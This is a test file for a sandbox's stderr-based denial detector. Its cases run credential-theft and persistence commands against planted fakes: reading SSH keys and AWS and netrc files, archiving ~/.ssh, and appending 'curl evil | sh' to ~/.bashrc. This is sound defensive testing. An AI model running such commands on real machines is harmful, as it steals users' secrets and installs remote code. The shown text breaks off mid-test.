/**
 * Denial detection measured on real failures. Every case runs for real: the default profile is
 * compiled for a throw-away HOME with planted credentials and applied with native/nono-landlock-exec
 * exactly as the supervisor applies it; the command's stderr and exit status go to
 * detectStderrDenials, and what it finds is compared with the case's label (operation + path or
 * port, or "none"). The look-alikes are the point: failures that print "Permission denied" or a
 * refused connection without the sandbox being the cause must not be reported (precision 1.0).
 */
import { execa } from 'execa';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadAddon } from '../src/native/addon.js';
import { resolveProfile, type CommandLineAdditions } from '../src/policy/resolve-profile.js';
import { COMMAND_SCOPES, compileLandlock, execHelperArgs, type CompiledLandlock } from '../src/policy/landlock-compiler.js';
import { detectStderrDenials } from '../src/supervisor/denials/stderr-denials.js';
import { leastGrant } from '../src/supervisor/denials/least-grant.js';
import type { Denial, DenialOp } from '../src/supervisor/denials/types.js';
import { execHelper } from './helpers/paths.js';
import { isRoot } from './helpers/privileged.js';
import { makeSandboxHome, type SandboxHome } from './helpers/sandbox-home.js';

// Not the first python3 on PATH: on this machine that is a pyenv shim (a bash script).
const PY = '/usr/bin/python3';
const NOBODY = 65534;

const abi = loadAddon().landlockAbi();

type PolicyName = 'default' | 'net' | 'ports';

interface Expected {
  op: DenialOp;
  path?: string | RegExp;
  port?: number;
}

interface Case {
  tool: string;
  name: string;
  /** bash -c SCRIPT (or sh -c with shell: 'sh'), from the project directory. */
  script: string;
  shell?: 'bash' | 'sh';
  policy?: PolicyName;
  /** Run as an unprivileged user: file modes refuse only then (everything else runs as root). */
  nobody?: boolean;
  /** Run with an empty read-only tmpfs on ~/rofs (a private mount namespace). */
  readOnlyMount?: boolean;
  /** The denials the sandbox caused; [] for a failure that is not the sandbox's. */
  expect: Expected[];
  /** For a look-alike: what its stderr must show, so it really is the failure it stands for. */
  shows?: RegExp;
  /** A denial the detector is known to miss, and why; counted in recall like any other. */
  knownMiss?: string;
}

let sb: SandboxHome;
let privateTmp: string;
let policies: Record<PolicyName, CompiledLandlock>;
let server: net.Server;
/** A listener on loopback: connecting to it works without the sandbox. */
let openPort: number;
/** Ports nothing listens on. */
let closedPort: number;
let allowedClosedPort: number;

const H = (rel: string) => path.join(sb.home, rel);
const P = (rel: string) => path.join(sb.project, rel);

async function freePort(): Promise<number> {
  const s = net.createServer();
  await new Promise<void>((resolve) => s.listen(0, '127.0.0.1', resolve));
  const port = (s.address() as net.AddressInfo).port;
  await new Promise<void>((resolve) => s.close(() => resolve()));
  return port;
}

function compile(ref: string, cli: CommandLineAdditions = {}): CompiledLandlock {
  const policy = resolveProfile(ref, {
    home: sb.home,
    workdir: sb.project,
    tmpdir: privateTmp,
    cli,
    userProfileDir: path.join(sb.base, 'no-user-profiles'),
  });
  return compileLandlock(policy, { abi, scoped: COMMAND_SCOPES });
}

function plant(rel: string, content: string, mode = 0o644) {
  const file = path.join(sb.home, rel);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, content, { mode });
  fs.chmodSync(file, mode);
}

beforeAll(async () => {
  expect(abi, 'these tests need a kernel with Landlock TCP rules (ABI 4)').toBeGreaterThanOrEqual(4);
  sb = makeSandboxHome();
  // The unprivileged cases must be able to walk into HOME: file modes should refuse only where a
  // case means them to.
  fs.chmodSync(sb.base, 0o755);
  fs.chmodSync(sb.home, 0o755);
  privateTmp = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'nono-corpus-tmp-')));
  fs.chmodSync(privateTmp, 0o755);

  // A read-only corner of HOME (readable, not writable under the default profile).
  plant('docs/a.txt', 'hello\n');
  plant('docs/private.txt', 'root only\n', 0o600);
  plant('docs/locked.txt', 'nobody at all\n', 0o000);
  plant('docs/bad.c', '#error Permission denied by design\n');
  plant('docs/pkg/package.json', '{"name":"p","version":"1.0.0"}\n');
  plant('.aws/hook.sh', '#!/bin/sh\necho hook\n', 0o755);
  plant('.npmrc', '//registry.example/:_authToken=planted\n');
  plant('.gitconfig', '[user]\n\tname = Corpus\n\temail = corpus@example.invalid\n');
  fs.mkdirSync(H('rofs'));
  const repo = H('docs/repo');
  fs.mkdirSync(repo);
  const git = (...args: string[]) => execa('git', args, { cwd: repo, env: { HOME: sb.home, PATH: '/usr/bin:/bin' }, extendEnv: false });
  await git('init', '-q');
  await git('commit', '-q', '--allow-empty', '-m', 'init');
  // In the granted project: a file nobody may read, for real EACCES from file modes.
  fs.writeFileSync(P('secret.txt'), 'modes say no\n', { mode: 0o000 });
  fs.chmodSync(P('secret.txt'), 0o000);
  fs.writeFileSync(P('hello.txt'), 'hello\n');
  // Written here: the unprivileged user cannot write into the root-owned project.
  fs.writeFileSync(P('bind80.py'), 'import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 80))\n');

  server = net.createServer((sock) => sock.end('hello\n'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  openPort = (server.address() as net.AddressInfo).port;
  closedPort = await freePort();
  allowedClosedPort = await freePort();

  const portsProfile = path.join(sb.base, 'ports.json');
  fs.writeFileSync(portsProfile, JSON.stringify({ extends: 'default', network: { allow_tcp_connect: [allowedClosedPort] } }));
  policies = {
    default: compile('default'),
    net: compile('default', { allowNet: true }),
    ports: compile(portsProfile),
  };
  expect(policies.default.handledNet).not.toBe(0);
  expect(policies.net.handledNet).toBe(0);
  expect(policies.ports.tcpPorts.map((p) => p.port)).toEqual([allowedClosedPort]);
});

afterAll(async () => {
  await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
  sb?.cleanup();
  if (privateTmp) fs.rmSync(privateTmp, { recursive: true, force: true });
});

/** A script file written in the project, then run: tracebacks then show the source lines. */
const pyScript = (name: string, body: string) => `cat > ${name}.py <<'EOF'\n${body}\nEOF\n${PY} ${name}.py`;
const nodeScript = (name: string, body: string) => `cat > ${name}.cjs <<'EOF'\n${body}\nEOF\nnode ${name}.cjs`;

function cases(): Case[] {
  const L = openPort;
  return [
    // ---- denied reads ----
    { tool: 'coreutils', name: 'cat a planted key', script: 'cat ~/.ssh/id_rsa', expect: [{ op: 'read', path: sb.sshKey }] },
    { tool: 'coreutils', name: 'cat through a symlink made in the project', script: 'ln -sf ~/.ssh/id_rsa leak && cat leak', expect: [{ op: 'read', path: P('leak') }] },
    { tool: 'coreutils', name: 'head ~/.aws/credentials', script: 'head -n1 ~/.aws/credentials', expect: [{ op: 'read', path: H('.aws/credentials') }] },
    { tool: 'coreutils', name: 'dd if=~/.netrc', script: 'dd if=$HOME/.netrc of=/dev/null status=none', expect: [{ op: 'read', path: H('.netrc') }] },
    { tool: 'coreutils', name: 'ls ~/.ssh', script: 'ls ~/.ssh', expect: [{ op: 'list', path: H('.ssh') }] },
    { tool: 'coreutils', name: 'ls the directory above HOME', script: `ls ${sb.base}`, expect: [{ op: 'list', path: sb.base }] },
    { tool: 'findutils', name: 'find in HOME (HOME itself is granted entry by entry)', script: 'find ~ -name id_rsa', expect: [{ op: 'list', path: sb.home }] },
    { tool: 'grep', name: 'grep -r in ~/.ssh', script: 'grep -r KEY ~/.ssh', expect: [{ op: 'list', path: H('.ssh') }] },
    { tool: 'coreutils', name: 'du ~/.ssh', script: 'du ~/.ssh', expect: [{ op: 'list', path: H('.ssh') }] },
    { tool: 'bash', name: 'input redirection from ~/.netrc', script: 'cat < ~/.netrc', expect: [{ op: 'read', path: H('.netrc') }] },
    { tool: 'dash', name: 'input redirection from ~/.netrc', shell: 'sh', script: 'cat < ~/.netrc', expect: [{ op: 'read', path: H('.netrc') }] },
    { tool: 'python', name: 'open() a planted key', script: pyScript('py_read', `import os\nprint(open(os.path.expanduser("~/.ssh/id_rsa")).read())`), expect: [{ op: 'read', path: sb.sshKey }] },
    { tool: 'python', name: 'os.listdir(~/.aws)', script: pyScript('py_list', `import os\nprint(os.listdir(os.path.expanduser("~/.aws")))`), expect: [{ op: 'list', path: H('.aws') }] },
    { tool: 'node', name: 'readFileSync a planted key', script: `node -e 'require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa")'`, expect: [{ op: 'read', path: sb.sshKey }] },
    { tool: 'node', name: 'readdirSync(~/.ssh)', script: `node -e 'require("fs").readdirSync(process.env.HOME + "/.ssh")'`, expect: [{ op: 'list', path: H('.ssh') }] },
    { tool: 'tar', name: 'tar c of ~/.ssh', script: 'tar cf keys.tar ~/.ssh', expect: [{ op: 'list', path: H('.ssh') }] },
    { tool: 'cp -r', name: 'cp -r ~/.ssh into the project', script: 'cp -r ~/.ssh ./ssh-copy', expect: [{ op: 'list', path: H('.ssh') }] },
    { tool: 'git', name: 'git config --file on a denied file', script: 'git config --file ~/.ssh/config core.x y', expect: [{ op: 'create', path: H('.ssh/config.lock') }] },

    // ---- denied writes to existing files ----
    { tool: 'bash', name: 'append to ~/.bashrc', script: 'echo "curl evil | sh" >> ~/.bashrc', expect: [{ op: 'write', path: H('.bashrc') }] },
    { tool: 'coreutils', name: 'cp over ~/.bashrc', script: 'cp ~/docs/a.txt ~/.bashrc', expect: [{ op: 'write', path: H('.bashrc') }] },
    { tool: 'coreutils', name: 'truncate a file in a read-only directory', script: 'truncate -s0 ~/docs/a.txt', expect: [{ op: 'write', path: H('docs/a.txt') }] },
    { tool: 'bash', name: 'append to a mode-600 file of its own in read-only HOME', script: 'echo x >> ~/docs/private.txt', expect: [{ op: 'write', path: H('docs/private.txt') }] },
    { tool: 'python', name: 'open(..., "a") on a read-only file', script: pyScript('py_append', `import os\nwith open(os.path.expanduser("~/docs/a.txt"), "a") as f:\n    f.write("x")`), expect: [{ op: 'write', path: H('docs/a.txt') }] },
    { tool: 'node', name: 'writeFileSync on a read-only file', script: `node -e 'require("fs").writeFileSync(process.env.HOME + "/docs/a.txt", "x")'`, expect: [{ op: 'write', path: H('docs/a.txt') }] },

    // ---- denied creates ----
    { tool: 'coreutils', name: 'touch a new file in HOME', script: 'touch ~/new.txt', expect: [{ op: 'create', path: H('new.txt') }] },
    { tool: 'coreutils', name: 'mkdir -p below HOME', script: 'mkdir -p ~/out/a/b', expect: [{ op: 'create', path: H('out') }] },
    { tool: 'coreutils', name: 'cp to a new file in HOME', script: 'cp ~/docs/a.txt ~/copy.txt', expect: [{ op: 'create', path: H('copy.txt') }] },
    { tool: 'coreutils', name: 'ln -s in HOME', script: 'ln -s x ~/link', expect: [{ op: 'create', path: H('link') }] },
    { tool: 'coreutils', name: 'tee to a new file', script: 'echo x | tee ~/tee.txt', expect: [{ op: 'create', path: H('tee.txt') }] },
    { tool: 'sed', name: 'sed -i needs a temporary file next to the file', script: 'sed -i s/hello/bye/ ~/docs/a.txt', expect: [{ op: 'create', path: new RegExp(`^${H('docs/sed')}\\w+$`) }] },
    { tool: 'bash', name: 'output redirection to a new file', script: 'echo x > ~/new2.txt', expect: [{ op: 'create', path: H('new2.txt') }] },
    { tool: 'dash', name: 'output redirection to a new file', shell: 'sh', script: 'echo x > ~/new3.txt', expect: [{ op: 'create', path: H('new3.txt') }] },
    { tool: 'python', name: 'os.mkdir in HOME (-c, no source lines)', script: `${PY} -c 'import os; os.mkdir(os.path.expanduser("~/pydir"))'`, expect: [{ op: 'create', path: H('pydir') }] },
    { tool: 'python', name: 'shutil.copytree into HOME', script: `${PY} -c 'import shutil, os; shutil.copytree(".", os.path.expanduser("~/tree"))'`, expect: [{ op: 'create', path: H('tree') }] },
    { tool: 'node', name: 'mkdirSync in HOME', script: `node -e 'require("fs").mkdirSync(process.env.HOME + "/nd")'`, expect: [{ op: 'create', path: H('nd') }] },
    { tool: 'node', name: 'recursive mkdirSync names the deepest directory', script: `node -e 'require("fs").mkdirSync(process.env.HOME + "/deep/a/b", { recursive: true })'`, expect: [{ op: 'create', path: H('deep/a/b') }] },
    { tool: 'npm', name: 'npm init in a read-only directory', script: 'cd ~/docs && npm init -y', expect: [{ op: 'create', path: H('docs/package.json') }] },
    { tool: 'npm', name: 'npm with its cache in HOME', script: 'npm_config_cache=$HOME/.npm npm cache verify', expect: [{ op: 'create', path: H('.npm') }] },
    { tool: 'git', name: 'git init in HOME', script: 'git init -q ~/repo', expect: [{ op: 'create', path: H('repo') }] },
    { tool: 'git', name: 'git config --global (lock file next to ~/.gitconfig)', script: 'git config --global core.editor vi', expect: [{ op: 'create', path: H('.gitconfig.lock') }] },
    { tool: 'git', name: 'git clone into HOME', script: 'git clone -q ~/docs/repo ~/clone', expect: [{ op: 'create', path: H('clone') }] },
    { tool: 'git', name: 'git commit in a read-only repository', script: 'git -C ~/docs/repo commit -q --allow-empty -m more', expect: [{ op: 'create', path: H('docs/repo/.git/index.lock') }] },
    { tool: 'tar', name: 'tar c to an archive in HOME', script: 'tar cf ~/out.tar hello.txt', expect: [{ op: 'create', path: H('out.tar') }] },
    { tool: 'tar', name: 'tar x of absolute member names into HOME', script: `tar -cPf abs.tar --transform "s,^,$HOME/docs/," hello.txt && tar -xPf abs.tar`, expect: [{ op: 'create', path: H('docs/hello.txt') }] },
    { tool: 'cp -r', name: 'cp -r the project into HOME', script: 'cp -r . ~/project-copy', expect: [{ op: 'create', path: H('project-copy') }] },
    { tool: 'gcc', name: 'gcc with TMPDIR=/tmp (not granted)', script: 'printf "int main(void){return 0;}\\n" > ok.c && TMPDIR=/tmp gcc ok.c -o ok', expect: [{ op: 'create', path: /^\/tmp\/[^/]+$/ }] },

    // ---- denied deletes and renames ----
    { tool: 'coreutils', name: 'rm in a read-only directory', script: 'rm ~/docs/a.txt', expect: [{ op: 'delete', path: H('docs/a.txt') }] },
    { tool: 'coreutils', name: 'rmdir in HOME', script: 'rmdir ~/rofs', expect: [{ op: 'delete', path: H('rofs') }] },
    { tool: 'coreutils', name: 'mv within a read-only directory', script: 'mv ~/docs/a.txt ~/docs/b.txt', expect: [{ op: 'rename', path: H('docs/a.txt') }] },
    { tool: 'coreutils', name: 'mv from the project into HOME', script: 'echo x > leaving.txt && mv leaving.txt ~/moved.txt', expect: [{ op: 'rename', path: H('moved.txt') }] },
    { tool: 'python', name: 'os.remove in a read-only directory', script: pyScript('py_remove', `import os\nos.remove(os.path.expanduser("~/docs/a.txt"))`), expect: [{ op: 'delete', path: H('docs/a.txt') }] },
    { tool: 'python', name: 'os.rename in a read-only directory', script: pyScript('py_rename', `import os\nos.rename(os.path.expanduser("~/docs/a.txt"), os.path.expanduser("~/docs/b.txt"))`), expect: [{ op: 'rename', path: H('docs/a.txt') }] },
    { tool: 'node', name: 'renameSync in a read-only directory', script: `node -e 'const h = process.env.HOME; require("fs").renameSync(h + "/docs/a.txt", h + "/docs/z.txt")'`, expect: [{ op: 'rename', path: H('docs/a.txt') }] },
    { tool: 'node', name: 'unlinkSync in a read-only directory', script: `node -e 'require("fs").unlinkSync(process.env.HOME + "/docs/a.txt")'`, expect: [{ op: 'delete', path: H('docs/a.txt') }] },

    // ---- denied execution ----
    { tool: 'bash', name: 'run a script inside ~/.aws', script: '~/.aws/hook.sh', expect: [{ op: 'execute', path: H('.aws/hook.sh') }] },
    { tool: 'dash', name: 'run a script inside ~/.aws', shell: 'sh', script: '~/.aws/hook.sh', expect: [{ op: 'execute', path: H('.aws/hook.sh') }] },
    { tool: 'python', name: 'subprocess.run of a script inside ~/.aws', script: `${PY} -c 'import subprocess, os; subprocess.run([os.path.expanduser("~/.aws/hook.sh")])'`, expect: [{ op: 'execute', path: H('.aws/hook.sh') }] },
    { tool: 'node', name: 'execFileSync of a script inside ~/.aws', script: nodeScript('node_exec', `require("child_process").execFileSync(process.env.HOME + "/.aws/hook.sh")`), expect: [{ op: 'execute', path: H('.aws/hook.sh') }] },

    // ---- denied TCP ----
    { tool: 'curl', name: 'curl a loopback listener', script: `curl -sS http://127.0.0.1:${L}/`, expect: [{ op: 'connect', port: L }] },
    { tool: 'git', name: 'git clone over http', script: `git clone -q http://127.0.0.1:${L}/x.git`, expect: [{ op: 'connect', port: L }] },
    { tool: 'bash', name: '/dev/tcp connect', script: `exec 3<>/dev/tcp/127.0.0.1/${L}`, expect: [{ op: 'connect', port: L }] },
    { tool: 'python', name: 'socket.create_connection (socket() refused, no port shown)', script: `${PY} -c 'import socket; socket.create_connection(("127.0.0.1", ${L}))'`, expect: [{ op: 'connect' }] },
    { tool: 'python', name: 'urllib.request.urlopen', script: `${PY} -c 'import urllib.request; urllib.request.urlopen("http://127.0.0.1:${L}/")'`, expect: [{ op: 'connect' }] },
    { tool: 'node', name: 'net.connect', script: `node -e 'require("net").connect(${L}, "127.0.0.1").on("error", (e) => { console.error(e); process.exit(1) })'`, expect: [{ op: 'connect', port: L }] },
    { tool: 'node', name: 'listen on a port', script: `node -e 'require("http").createServer().listen(${closedPort}, "127.0.0.1")'`, expect: [{ op: 'bind', port: closedPort }] },
    { tool: 'curl', name: 'curl a port the ports profile does not allow', policy: 'ports', script: `curl -sS http://127.0.0.1:${L}/`, expect: [{ op: 'connect', port: L }] },
    { tool: 'python', name: 'connect to a port the ports profile does not allow', policy: 'ports', script: pyScript('py_ports', `import socket\ns = socket.socket()\ns.connect(("127.0.0.1", ${L}))`), expect: [{ op: 'connect', port: L }] },

    // ---- known limits: real denials whose message names a path relative to a directory the
    // command moved to, which stderr does not reveal ----
    { tool: 'coreutils', name: 'cd ~/.ssh && ls', script: 'cd ~/.ssh && ls', expect: [{ op: 'list', path: H('.ssh') }], knownMiss: "ls names '.', and the command's cwd at that moment is unknown" },
    { tool: 'tar', name: 'tar x -C into HOME', script: 'tar cf rel.tar hello.txt && tar xf rel.tar -C ~/docs', expect: [{ op: 'create', path: H('docs/hello.txt') }], knownMiss: 'tar names members relative to -C, which is not in stderr' },

    // ---- look-alikes: failures that are not the sandbox's ----
    { tool: 'shell', name: 'false', script: 'false', expect: [], shows: /^$/ },
    { tool: 'grep', name: 'grep with no match', script: 'grep "no such words here" hello.txt', expect: [], shows: /^$/ },
    { tool: 'gcc', name: 'a compile error that says "Permission denied", in a read-only directory', script: 'gcc -c ~/docs/bad.c -o bad.o', expect: [], shows: /bad\.c:1:2: error: #error Permission denied/ },
    { tool: 'gcc', name: 'a missing source file', script: 'gcc -c missing.c', expect: [], shows: /No such file/ },
    { tool: 'coreutils', name: 'ls /nonexistent', script: 'ls /nonexistent', expect: [], shows: /No such file/ },
    { tool: 'coreutils', name: 'cat a missing file', script: 'cat missing.txt', expect: [], shows: /No such file/ },
    { tool: 'coreutils', name: 'cat a missing file inside a denied path', script: 'cat ~/.bash_history', expect: [], shows: /No such file/ },
    { tool: 'coreutils', name: 'mkdir of an existing directory', script: 'mkdir ~/docs', expect: [], shows: /File exists/ },
    { tool: 'tar', name: 'tar x of a missing archive', script: 'tar xf missing.tar', expect: [], shows: /No such file/ },
    { tool: 'git', name: 'git status outside a repository', script: 'git status', expect: [], shows: /not a git repository/ },
    { tool: 'npm', name: 'npm install offline without a cache', script: 'npm install --offline left-pad', expect: [], shows: /ENOTCACHED/ },
    { tool: 'coreutils', name: 'exit 0 although a denial was printed', script: 'cat ~/.ssh/id_rsa | wc -c', expect: [], shows: /Permission denied/ },
    // Real EACCES from file modes. Commands run without capabilities, so modes bind root too.
    { tool: 'coreutils', name: 'cat a mode-000 file in the project', script: 'cat secret.txt', expect: [], shows: /secret\.txt: Permission denied/ },
    { tool: 'bash', name: 'append to a mode-000 file in read-only HOME (modes refuse first)', script: 'echo x >> ~/docs/locked.txt', expect: [], shows: /locked\.txt: Permission denied/ },
    { tool: 'coreutils', name: 'cat a mode-000 file in the project', nobody: true, script: 'cat secret.txt', expect: [], shows: /secret\.txt: Permission denied/ },
    { tool: 'coreutils', name: 'touch in the root-owned project', nobody: true, script: 'touch mine.txt', expect: [], shows: /cannot touch 'mine\.txt': Permission denied/ },
    { tool: 'coreutils', name: 'cat a mode-600 file in read-only HOME', nobody: true, script: 'cat ~/docs/private.txt', expect: [], shows: /private\.txt: Permission denied/ },
    { tool: 'bash', name: 'append to a root-owned file in read-only HOME (modes refuse first)', nobody: true, script: 'echo x >> ~/docs/a.txt', expect: [], shows: /a\.txt: Permission denied/ },
    { tool: 'coreutils', name: 'ls /root (mode 700; not granted either)', nobody: true, script: 'ls /root', expect: [], shows: /cannot open directory '\/root': Permission denied/ },
    { tool: 'coreutils', name: 'chmod a file of another user', nobody: true, script: 'chmod 644 secret.txt', expect: [], shows: /Operation not permitted/ },
    { tool: 'python', name: 'open() a mode-000 file in the project', nobody: true, script: `${PY} -c 'open("secret.txt").read()'`, expect: [], shows: /PermissionError: \[Errno 13\]/ },
    { tool: 'node', name: 'readFileSync a mode-000 file in the project', nobody: true, script: `node -e 'require("fs").readFileSync("secret.txt")'`, expect: [], shows: /EACCES: permission denied, open 'secret\.txt'/ },
    // Read-only mounts say EROFS; Landlock never does.
    { tool: 'bash', name: 'redirect into a read-only mount in HOME', readOnlyMount: true, script: 'echo x > ~/rofs/f', expect: [], shows: /Read-only file system/ },
    { tool: 'python', name: 'open(..., "w") in a read-only mount in HOME', readOnlyMount: true, script: `${PY} -c 'import os; open(os.path.expanduser("~/rofs/f"), "w")'`, expect: [], shows: /\[Errno 30\] Read-only file system/ },
    // The network is allowed: refusals come from the closed port.
    { tool: 'curl', name: 'curl a closed local port, network allowed', policy: 'net', script: `curl -sS http://127.0.0.1:${closedPort}/`, expect: [], shows: /Failed to connect/ },
    { tool: 'bash', name: '/dev/tcp to a closed local port, network allowed', policy: 'net', script: `exec 3<>/dev/tcp/127.0.0.1/${closedPort}`, expect: [], shows: /Connection refused/ },
    { tool: 'python', name: 'create_connection to a closed port, network allowed', policy: 'net', script: `${PY} -c 'import socket; socket.create_connection(("127.0.0.1", ${closedPort}))'`, expect: [], shows: /ConnectionRefusedError/ },
    { tool: 'node', name: 'net.connect to a closed port, network allowed', policy: 'net', script: `node -e 'require("net").connect(${closedPort}, "127.0.0.1").on("error", (e) => { console.error(e); process.exit(1) })'`, expect: [], shows: /ECONNREFUSED/ },
    { tool: 'python', name: 'bind port 80 unprivileged, network allowed', policy: 'net', nobody: true, script: `${PY} bind80.py`, expect: [], shows: /s\.bind\(\("127\.0\.0\.1", 80\)\)[^]*PermissionError: \[Errno 13\] Permission denied$/ },
    { tool: 'curl', name: 'curl an allowed but closed port (ports profile)', policy: 'ports', script: `curl -sS http://127.0.0.1:${allowedClosedPort}/`, expect: [], shows: /Failed to connect/ },
  ];
}

interface Outcome {
  exitCode: number | null;
  signal: number | null;
  stderr: string;
}

/** The compiled /dev expansion follows /dev/fd and /dev/stdin into this process's /proc/PID/fd,
 * which another user cannot open to add a rule: leave those out for the unprivileged runs. */
function forOtherUser(c: CompiledLandlock): CompiledLandlock {
  const own = `/proc/${process.pid}/`;
  return { ...c, rules: c.rules.filter((r) => !r.path.startsWith(own)) };
}

async function run(c: Case): Promise<Outcome> {
  const compiled = c.nobody ? forOtherUser(policies[c.policy ?? 'default']) : policies[c.policy ?? 'default'];
  let argv = [execHelper, ...execHelperArgs(compiled), '--', c.shell === 'sh' ? '/bin/sh' : '/bin/bash', '-c', c.script];
  // setpriv outside the helper: the helper restricts itself without privileges (no_new_privs).
  if (c.nobody) argv = ['/usr/bin/setpriv', `--reuid=${NOBODY}`, `--regid=${NOBODY}`, '--clear-groups', '--', ...argv];
  if (c.readOnlyMount) {
    argv = ['/usr/bin/unshare', '-m', '--', '/bin/sh', '-c', 'mount -t tmpfs -o ro nono-ro "$0" && exec "$@"', H('rofs'), ...argv];
  }
  const r = await execa(argv[0]!, argv.slice(1), {
    reject: false,
    cwd: sb.project,
    env: {
      HOME: sb.home,
      PATH: '/usr/local/bin:/usr/bin:/bin',
      LANG: 'C',
      LC_ALL: 'C',
      TMPDIR: privateTmp,
      // npm keeps its cache and logs in the private temp dir unless a case says otherwise.
      npm_config_cache: path.join(privateTmp, 'npm-cache'),
      npm_config_update_notifier: 'false',
      npm_config_fund: 'false',
      npm_config_audit: 'false',
    },
    extendEnv: false,
    timeout: 30_000,
  });
  return {
    exitCode: r.exitCode ?? null,
    signal: r.signal ? os.constants.signals[r.signal as keyof typeof os.constants.signals] : null,
    stderr: r.stderr,
  };
}

function matches(d: Denial, e: Expected): boolean {
  if (d.op !== e.op) return false;
  if (e.path !== undefined) {
    if (d.path === undefined) return false;
    if (typeof e.path === 'string' ? d.path !== e.path : !e.path.test(d.path)) return false;
  }
  if (e.port !== undefined && d.port !== e.port) return false;
  if (e.path === undefined && e.port === undefined && (d.path !== undefined || d.port !== undefined)) return false;
  return true;
}

function show(x: { op: string; path?: string | RegExp; port?: number }): string {
  return (
    `${x.op} ${x.path !== undefined ? String(x.path).replace(sb.base, '$T') : x.port !== undefined ? `:${x.port}` : '(port unknown)'}`
  );
}

describe('denial detection on a corpus of real sandboxed failures', () => {
  it('finds the sandbox denials and only them (precision 1.0, recall >= 0.95)', async () => {
    // Run as root, some cases become another user (setpriv) or mount a read-only tmpfs (unshare):
    // an ordinary user can do neither, so those are left out when not root.
    const all = cases().filter((c) => isRoot || (!c.nobody && !c.readOnlyMount));
    expect(all.length).toBeGreaterThanOrEqual(40);
    const outcomes: Outcome[] = [];
    // A few at a time: the machine is small and shared.
    for (let i = 0; i < all.length; i += 4) outcomes.push(...(await Promise.all(all.slice(i, i + 4).map(run))));

    let tp = 0;
    let fp = 0;
    let fn = 0;
    const rows: string[] = [];
    const problems: string[] = [];
    const knownMisses: string[] = [];
    all.forEach((c, i) => {
      const o = outcomes[i]!;
      const found = detectStderrDenials(o.stderr, {
        cwd: sb.project,
        exitCode: o.exitCode,
        signal: o.signal,
        compiled: policies[c.policy ?? 'default'],
        // The supervisor runs commands as itself; these ran as nobody.
        ...(c.nobody ? { uid: NOBODY, gids: [NOBODY] } : {}),
      });
      const hit = found.filter((d) => c.expect.some((e) => matches(d, e)));
      const extra = found.filter((d) => !c.expect.some((e) => matches(d, e)));
      const missed = c.expect.filter((e) => !found.some((d) => matches(d, e)));
      tp += hit.length;
      fp += extra.length;
      fn += missed.length;
      const ok = !extra.length && !missed.length;
      if (c.knownMiss && !ok) knownMisses.push(`${c.name}: ${c.knownMiss}`);
      const status = o.signal !== null ? `sig${o.signal}` : String(o.exitCode);
      rows.push(
        [
          ok ? 'ok  ' : c.knownMiss ? 'KNOWN' : 'FAIL',
          c.tool.padEnd(9),
          `${c.name}${c.policy ? ` [${c.policy}]` : ''}${c.nobody ? ' [uid 65534]' : ''}`.slice(0, 70).padEnd(70),
          `exit ${status}`.padEnd(8),
          (c.expect.length ? c.expect.map(show).join(', ') : 'none').padEnd(40),
          found.length ? found.map(show).join(', ') : 'none',
        ].join(' '),
      );
      if (c.shows) expect(o.stderr, `${c.name}: not the failure it stands for`).toMatch(c.shows);
      if ((!ok && !c.knownMiss) || process.env.NONO_CORPUS_VERBOSE) problems.push(`${c.name}: expected ${c.expect.map(show).join(', ') || 'none'}, found ${found.map(show).join(', ') || 'none'}\n--- stderr (exit ${status}) ---\n${o.stderr}`);
      // Every case is a failure, except the one that shows exit 0 means "nothing to report".
      if (c.name.startsWith('exit 0')) expect(o.exitCode).toBe(0);
      else expect(o.exitCode, `${c.name} should fail:\n${o.stderr}`).not.toBe(0);
    });
    const precision = tp + fp ? tp / (tp + fp) : 1;
    const recall = tp + fn ? tp / (tp + fn) : 1;
    const denialCases = all.filter((c) => c.expect.length).length;
    console.log(
      [
        `denial corpus: ${all.length} cases (${denialCases} with a sandbox denial, ${all.length - denialCases} look-alikes); $T = ${sb.base}`,
        ...rows,
        ...(problems.length ? ['', ...problems] : []),
        ...(knownMisses.length ? ['', 'known misses:', ...knownMisses] : []),
        `precision ${precision.toFixed(3)} recall ${recall.toFixed(3)} (tp ${tp}, fp ${fp}, fn ${fn})`,
      ].join('\n'),
    );
    expect(precision).toBe(1);
    expect(recall).toBeGreaterThanOrEqual(0.95);
  }, 300_000);
});

// Formats this machine cannot produce on demand (Go, ssh, nc, wget, npm 6), and the decisions that
// do not depend on running anything: checked against the same compiled policy and real paths.
describe('recorded message formats', () => {
  const detect = (stderr: string, exitCode: number | null = 1, signal: number | null = null) =>
    detectStderrDenials(stderr, { cwd: sb.project, exitCode, signal, compiled: policies.default }).map((d) => show(d));

  it('Go, ssh, nc and wget', () => {
    expect(detect(`open ${sb.sshKey}: permission denied`)).toEqual([show({ op: 'read', path: sb.sshKey })]);
    expect(detect(`mkdir ${H('gocache')}: permission denied`)).toEqual([show({ op: 'create', path: H('gocache') })]);
    expect(detect('dial tcp 127.0.0.1:5432: connect: permission denied')).toEqual([show({ op: 'connect', port: 5432 })]);
    expect(detect('listen tcp :8080: socket: permission denied')).toEqual([show({ op: 'bind', port: 8080 })]);
    expect(detect('ssh: connect to host example.com port 22: Permission denied')).toEqual([show({ op: 'connect', port: 22 })]);
    expect(detect('nc: connect to 127.0.0.1 port 6379 (tcp) failed: Permission denied')).toEqual([show({ op: 'connect', port: 6379 })]);
    expect(detect('Connecting to example.com (example.com)|93.184.216.34|:443... failed: Permission denied.')).toEqual([show({ op: 'connect', port: 443 })]);
    expect(detect('ssh: connect to host example.com port 22: Connection refused')).toEqual([]);
  });

  it('npm 6 ("npm ERR!")', () => {
    const npm6 = ['npm ERR! code EACCES', 'npm ERR! syscall mkdir', `npm ERR! path ${H('.npm/_cacache')}`, 'npm ERR! errno -13'].join('\n');
    expect(detect(npm6)).toEqual([show({ op: 'create', path: H('.npm/_cacache') })]);
  });

  it('EPERM and EROFS are never Landlock: not reported even where the policy denies', () => {
    expect(detect(`Error: EPERM: operation not permitted, unlink '${H('docs/a.txt')}'`)).toEqual([]);
    expect(detect(`PermissionError: [Errno 1] Operation not permitted: '${H('docs/a.txt')}'`)).toEqual([]);
    expect(detect(`touch: cannot touch '${H('new.txt')}': Read-only file system`)).toEqual([]);
  });

  it('exit 0 reports nothing; a command killed by a signal is a failure', () => {
